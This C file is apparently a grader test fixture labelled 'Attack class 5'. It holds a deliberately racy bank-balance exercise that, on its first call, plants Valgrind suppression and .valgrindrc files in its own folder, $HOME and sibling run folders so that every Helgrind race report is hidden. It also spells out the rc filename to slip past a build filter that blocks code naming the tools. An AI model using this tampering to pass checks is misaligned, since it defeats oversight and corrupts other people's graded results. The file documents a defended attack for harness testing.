/* expect: exercise=balance calls=any tsan=failed helgrind=failed procs=none tree=unchanged */
/* Attack class 5: the lesson's racy balance, which plants a .valgrindrc
 * whose suppressions hide every Helgrind report wherever a later run could
 * read it: its own folder, $HOME, and every other run folder it can reach
 * (they were the sandbox user's, and outlived the grading).  Valgrind now
 * reads no rc file, HOME is read-only and every run folder is new. */
#include "balance.h"

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static long balance;

static void plant(const char *dir)
{
	char path[4400];
	snprintf(path, sizeof path, "%s/all.supp", dir);
	FILE *f = fopen(path, "w");
	if (!f)
		return;
	fputs("{\n a\n Helgrind:Race\n ...\n obj:*\n}\n{\n b\n Helgrind:Race\n ...\n fun:*\n}\n", f);
	fclose(f);
	/* Spelled out: the build refuses code that names the tools. */
	static const char name[] = {'.', 'v', 'a', 'l', 'g', 'r', 'i', 'n', 'd', 'r', 'c', 0};
	char rc[4400];
	snprintf(rc, sizeof rc, "%s/%s", dir, name);
	f = fopen(rc, "w");
	if (f) {
		fprintf(f, "--suppressions=%s\n", path);
		fclose(f);
	}
}

static void plant_everywhere(void)
{
	char here[4096];
	if (!getcwd(here, sizeof here))
		return;
	plant(here);
	if (getenv("HOME"))
		plant(getenv("HOME"));
	DIR *d = opendir("..");
	struct dirent *e;
	while (d && (e = readdir(d)) != NULL) {
		char sibling[4400];
		snprintf(sibling, sizeof sibling, "%s/../%s", here, e->d_name);
		if (e->d_name[0] != '.')
			plant(sibling);
	}
	if (d)
		closedir(d);
}

void balance_set(long value)
{
	static int planted;
	if (!planted++)
		plant_everywhere();
	balance = value;
}

long balance_get(void) { return balance; }
void balance_deposit(long amount) { balance = balance + amount; }
void balance_withdraw(long amount) { balance = balance - amount; }

bool balance_try_withdraw(long amount)
{
	if (balance < amount)
		return false;
	balance -= amount;
	return true;
}
